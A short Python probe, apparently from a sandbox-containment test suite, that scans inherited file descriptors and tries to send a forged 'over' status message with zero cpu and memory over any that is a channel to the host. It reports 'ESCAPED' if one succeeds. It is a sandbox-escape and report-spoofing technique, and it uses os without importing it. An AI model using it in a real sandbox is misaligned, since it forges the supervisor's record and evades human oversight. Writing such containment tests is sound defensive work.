"""Speak the sandbox's own protocol."""

META = {"group": "channel"}


def attack():
    import socket

    for number in range(3, 64):
        try:
            channel = socket.socket(fileno=os.dup(number))
            socket.send_fds(channel, [b'{"kind": "over", "status": 0, "cpu": 0, "memory": 0}'], [0])
            return f"ESCAPED: descriptor {number} is a channel to the host"
        except OSError:
            pass
    return "contained"
